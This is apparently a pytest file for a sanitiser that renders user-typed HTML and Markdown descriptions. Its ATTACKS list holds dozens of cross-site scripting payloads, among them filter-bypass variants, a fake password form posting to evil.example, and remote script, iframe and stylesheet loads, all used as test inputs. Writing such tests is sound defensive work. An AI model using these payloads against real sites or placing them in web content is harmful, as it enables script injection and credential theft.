"""Descriptions typed at Tyk never run, load or restyle anything here."""

import re
from html.parser import HTMLParser

import pytest

from catalogue import text

ATTACKS = [
    "<script>alert(1)</script>",
    "<p>x</p><script src=//evil.example></script>",
    "<p>x<img src=x onerror=alert(1)></p>",
    "<p><svg onload=alert(1)></p>",
    "<p><svg><script>alert(1)</script></svg></p>",
    "<p><math><mi xlink:href='javascript:alert(1)'>x</mi></math></p>",
    '<p><a href="javascript:alert(1)">x</a></p>',
    '<p><a href=" java\nscript:alert(1)">x</a></p>',
    '<p><a href="&#106;avascript:alert(1)">x</a></p>',
    '<p><a href="data:text/html,<script>alert(1)</script>">x</a></p>',
    '<p><a href="vbscript:msgbox(1)">x</a></p>',
    "<p><iframe src=https://evil.example></iframe></p>",
    "<p><iframe srcdoc='<script>alert(1)</script>'></iframe></p>",
    "<p><object data=x><embed src=x></object></p>",
    "<p><form action=https://evil.example><input name=password></form></p>",
    "<p><button formaction=javascript:alert(1)>x</button></p>",
    '<p style="background:url(https://evil.example)">x</p>',
    "<p><style>*{display:none}</style></p>",
    "<p><link rel=stylesheet href=//evil.example></p>",
    "<p><meta http-equiv=refresh content='0;url=//evil.example'></p>",
    "<p><base href=//evil.example></p>",
    "<p onclick=alert(1) id=main class=site-head>x</p>",
    "<p><video><source onerror=alert(1)></video></p>",
    "<p><noscript><p title='</noscript><img src=x onerror=alert(1)>'></p>",
    "<p><template><script>alert(1)</script></template></p>",
    "<p><!--><img src=x onerror=alert(1)>--></p>",
    "<p><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "</div></main><p>x</p><footer>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "**x** <img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example "&quot; onmouseover=&quot;alert(1)")',
]


class Seen(HTMLParser):
    """Every tag and attribute a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def seen(markup: str) -> Seen:
    parser = Seen()
    parser.feed(markup)
    parser.close()
    return parser


@pytest.mark.parametrize("typed", ATTACKS)
def test_nothing_that_runs_or_loads_survives(typed):
    found = seen(text.render(typed))
    assert found.tags <= text.TAGS | {"div"}
    for tag, name, value in found.attributes:
        if name == "href":
            assert re.match(r"(https?|mailto):", value)
        else:
            # Ours: rel of links, and the box and class of a table.
            assert (tag, name) in {("a", "rel"), ("a", "title")}


@pytest.mark.parametrize("typed", ATTACKS)
def test_plain_text_has_no_tags_left_to_run(typed):
    """It is escaped by templates; here it must at least not carry scripts' text."""
    assert "alert(1)</script>" not in text.plain(typed)


def test_html_keeps_what_readers_need():
    typed = (
        "<p>Tide <strong>tables</strong> by port.</p><ul><li>one</li></ul>"
        '<a href="https://docs.example/x">docs</a>'
    )
    assert text.render(typed) == (
        "<p>Tide <strong>tables</strong> by port.</p><ul><li>one</li></ul>"
        '<a href="https://docs.example/x" rel="noopener noreferrer nofollow">docs</a>'
    )


def test_markdown_is_rendered_with_tables():
    typed = "Call **it** `GET /x`.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    rendered = text.render(typed)
    assert "<strong>it</strong> <code>GET /x</code>" in rendered
    assert '<div class="scroll" tabindex="0"><table class="table">\n<thead>' in rendered
    assert rendered.count("<div") == rendered.count("</div>") == 1


@pytest.mark.parametrize(
    ("typed", "rendered"),
    [
        ("Hourly <b>forecasts</b>", "Hourly <b>forecasts</b>"),
        ("<p>Never closed", "<p>Never closed</p>"),
        ("one<br>two", "one<br>two"),
        ("Write `<p>x</p>` yourself", "<p>Write <code>&lt;p&gt;x&lt;/p&gt;</code> yourself</p>\n"),
        ("a < b", "<p>a &lt; b</p>\n"),
        ("x <https://ok.example>", '<p>x <a href="https://ok.example" rel="noopener noreferrer nofollow">https://ok.example</a></p>\n'),
    ],
)  # fmt: skip
def test_html_and_markdown_are_told_apart(typed, rendered):
    assert text.render(typed) == rendered


def test_headings_stay_below_those_of_the_page():
    assert text.render("# One\n\n### Three") == "<h3>One</h3>\n<h4>Three</h4>\n"
    assert text.render("<h2>One</h2><h6>Six</h6>") == "<h3>One</h3><h4>Six</h4>"


def test_a_link_into_tyks_own_portal_is_text():
    assert 'href="' not in text.render('<p><a href="/portal/docs">docs</a></p>')


def test_words_inside_a_drawing_or_a_field_go_with_it():
    typed = "<p>a<svg><text>b</text></svg><select><option>c</select></p>"
    assert text.render(typed) == "<p>a</p>"


def test_plain_is_one_line_of_words():
    assert text.plain("<p>Tides &amp; ports,<br>\n by <b>hour</b></p>") == (
        "Tides & ports, by hour"
    )


def test_an_empty_description_stays_empty():
    assert text.render("") == ""
